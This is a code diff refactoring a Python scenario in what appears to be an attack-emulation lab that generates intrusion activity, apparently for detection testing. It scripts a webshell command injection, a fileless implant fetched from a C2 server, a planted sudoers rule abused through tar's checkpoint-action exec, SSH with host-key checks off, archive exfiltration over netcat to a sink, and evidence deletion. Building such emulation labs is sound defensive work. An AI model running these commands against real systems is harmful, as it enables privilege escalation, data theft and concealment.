@@ -11,26 +11,27 @@ from __future__ import annotations
 
 from provarmor.lab import techniques as t
 from provarmor.lab.context import LabContext
-from provarmor.lab.scenario import (
-    Action,
-    Channel,
-    Plan,
-    Scenario,
-    SetupFile,
-    StepSpec,
+from provarmor.lab.scenario import Action, Channel, Plan, Scenario, StepSpec
+from provarmor.lab.scenarios.implants import drop_dir, implant_payload
+from provarmor.lab.scenarios.steps import (
+    delete,
+    deletion_step,
+    exploit_step,
+    implant_step,
+    netcat_to_sink,
+    start_implant,
+    sudo_rule,
+    web_exploit,
 )
-from provarmor.lab.scenarios.implants import drop_dir, fileless_start, implant_payload
 
 STEPS = (
-    StepSpec(
-        name="exploit",
+    exploit_step(
+        t.OWNER_USER,
         summary="Command injection in the web application; the shell lists its sudo rights.",
-        techniques=(t.EXPLOIT_PUBLIC_APP, t.UNIX_SHELL, t.OWNER_USER),
     ),
-    StepSpec(
-        name="implant",
+    implant_step(
+        t.FILELESS_STORAGE,
         summary="A Python implant is piped from the C2 server into the interpreter, detached.",
-        techniques=(t.PYTHON, t.WEB_PROTOCOLS, t.FILELESS_STORAGE),
     ),
     StepSpec(
         name="sudo-escalation",
@@ -54,11 +55,7 @@ STEPS = (
         summary="The loot is tarred and sent to the sink over a raw TCP connection (nc).",
         techniques=(t.ARCHIVE_UTILITY, t.EXFIL_UNENCRYPTED, t.NON_APPLICATION_PROTOCOL),
     ),
-    StepSpec(
-        name="cleanup",
-        summary="The working directory is deleted.",
-        techniques=(t.FILE_DELETION,),
-    ),
+    deletion_step("cleanup", "The working directory is deleted."),
 )
 
 
@@ -68,7 +65,7 @@ def plan(ctx: LabContext) -> Plan:
     ops_home = ctx.home(ctx.ops_user)
     host2 = ctx.address("host2")
     remote_tool = f"/tmp/{ctx.names.hidden()}"  # noqa: S108  (the second host's /tmp)
-    sudoers = f"/etc/sudoers.d/{ctx.names.pick(('backup', 'archive', 'webops'))}"
+    sudoers = sudo_rule(ctx, files=("backup", "archive", "webops"), program="/usr/bin/tar")
     ssh_options = "-o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o BatchMode=yes"
     key = f"{folder}/k"
     escalate = (
@@ -76,17 +73,11 @@ def plan(ctx: LabContext) -> Plan:
         f"--checkpoint-action=exec='sh {folder}/r'"
     )
     return Plan(
-        setup_files=(
-            SetupFile(
-                path=sudoers,
-                mode=0o440,
-                content=f"{ctx.web.user} ALL=(root) NOPASSWD: /usr/bin/tar\n",
-            ),
-        ),
+        setup_files=(sudoers,),
         payloads=(implant,),
         actions=(
-            Action(step="exploit", channel=Channel.WEBSHELL, command="id; sudo -n -l"),
-            Action(step="implant", channel=Channel.WEBSHELL, command=fileless_start(ctx, implant)),
+            web_exploit("id; sudo -n -l"),
+            start_implant(ctx, implant),
             Action(
                 step="sudo-escalation",
                 channel=Channel.IMPLANT,
@@ -116,10 +107,9 @@ def plan(ctx: LabContext) -> Plan:
             Action(
                 step="exfil-netcat",
                 channel=Channel.IMPLANT,
-                command=f"tar czf - -C {folder} s h k | nc -N -w 5 {ctx.address('sink')} "
-                f"{ctx.sink_tcp_port}",
+                command=f"tar czf - -C {folder} s h k | {netcat_to_sink(ctx)}",
             ),
-            Action(step="cleanup", channel=Channel.IMPLANT, command=f"rm -rf {folder}"),
+            delete("cleanup", Channel.IMPLANT, folder),
         ),
         artifacts=(folder, remote_tool),
     )
